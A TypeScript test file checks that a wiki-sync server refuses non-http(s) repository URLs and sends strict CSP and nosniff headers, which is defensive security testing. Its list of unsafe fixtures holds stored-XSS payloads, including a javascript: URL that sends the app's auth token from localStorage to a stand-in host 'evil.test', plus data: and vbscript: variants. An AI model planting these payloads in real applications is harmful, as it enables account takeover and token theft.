// Stored XSS through `repository.url`, and the headers that back the sanitisers up. A
// repository link is rendered as `<a href>` for every reader, admins included, so REST and
// replication push must refuse any scheme but http(s) with a 4xx that names the field; the
// served app carries a strict Content-Security-Policy and every answer carries `nosniff`.
import { beforeAll, describe, expect, it } from 'vitest';
import { jsonOf, useTestApp } from '../../apps/server/src/testing/test-app.js';
import { useWebDist } from '../../apps/server/src/testing/web-dist.js';
import { testDatabaseKinds } from '../../apps/server/src/testing/test-database.js';
import { repositoryDoc } from '@wikisync/shared/testing';

const UNSAFE_URLS = [
  "javascript:fetch('http://evil.test/steal?t='+localStorage.getItem('wikisync.token'))",
  ' JavaScript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
];
const SAFE_URLS = ['http://git.example.com/team/repo', 'https://example.com/repo.git', ''];

describe.each(testDatabaseKinds())('repository URLs and security headers on %s', (kind) => {
  const t = useTestApp(kind, { webDistDir: useWebDist('app-1.js') });
  let userToken: string;

  beforeAll(async () => {
    userToken = (await t.createUserWithToken('reader')).token;
  });

  const expectUrlRefused = async (response: Response) => {
    expect(response.status).toBe(400);
    const body = await jsonOf(response);
    expect(body.code).toBe('VALIDATION_FAILED');
    expect(body.error).toMatch(/url: must be an http:\/\/ or https:\/\/ URL/);
  };

  it('REST create and update refuse non-http(s) URLs and store nothing', async () => {
    const existing = (await jsonOf(await t.request('POST', '/api/repositories', { body: { name: 'ok' } })))
      .data;
    for (const url of UNSAFE_URLS) {
      for (const token of [userToken, undefined]) {
        await expectUrlRefused(
          await t.request('POST', '/api/repositories', { body: { name: 'evil', url }, token }),
        );
      }
      await expectUrlRefused(await t.request('PATCH', `/api/repositories/${existing.id}`, { body: { url } }));
    }
    const listed = (await jsonOf(await t.request('GET', '/api/repositories'))).data.items;
    expect(listed.map((repository: { name: string }) => repository.name)).not.toContain('evil');
    expect((await jsonOf(await t.request('GET', `/api/repositories/${existing.id}`))).data.url).toBe('');
  });

  it('REST accepts http, https and an empty URL', async () => {
    for (const url of SAFE_URLS) {
      const response = await t.request('POST', '/api/repositories', { body: { name: 'fine', url } });
      expect(response.status).toBe(201);
      expect((await jsonOf(response)).data.url).toBe(url);
    }
  });

  it('replication push refuses non-http(s) URLs and accepts http(s)', async () => {
    for (const url of UNSAFE_URLS) {
      const response = await t.request('POST', '/api/v1/sync/push', {
        body: { collection: 'repositories', rows: [{ new_document_state: repositoryDoc({ url }) }] },
      });
      await expectUrlRefused(response);
    }
    const good = repositoryDoc({ url: 'https://example.com/pushed' });
    const response = await t.request('POST', '/api/v1/sync/push', {
      body: { collection: 'repositories', rows: [{ new_document_state: good }] },
    });
    expect(response.status).toBe(200);
    expect((await jsonOf(response)).data.conflicts).toEqual([]);
  });

  it('serves the app with a strict Content-Security-Policy and nosniff', async () => {
    for (const path of ['/', '/repo/1', '/assets/app-1.js']) {
      const response = await t.app.request(path);
      expect(response.status).toBe(200);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      const csp = response.headers.get('content-security-policy') ?? '';
      for (const directive of [
        "script-src 'self'",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "object-src 'none'",
        "base-uri 'self'",
      ]) {
        expect(csp, `${path}: ${directive}`).toContain(directive);
      }
      expect(csp).not.toContain('unsafe-inline');
      expect(csp).not.toContain('unsafe-eval');
    }
  });

  it('answers every API call with nosniff, errors included', async () => {
    const answers = [
      await t.request('GET', '/api/repositories'),
      await t.request('GET', '/api/repositories', { token: 'wrong' }),
      await t.request('POST', '/api/repositories', { body: '{' }),
      await t.request('GET', '/api/nope'),
      await t.app.request('/health'),
    ];
    expect(answers.map((response) => response.status)).toEqual([200, 401, 400, 404, 200]);
    for (const response of answers) {
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('content-security-policy')).toBe(
        "default-src 'none'; frame-ancestors 'none'",
      );
    }
  });
});
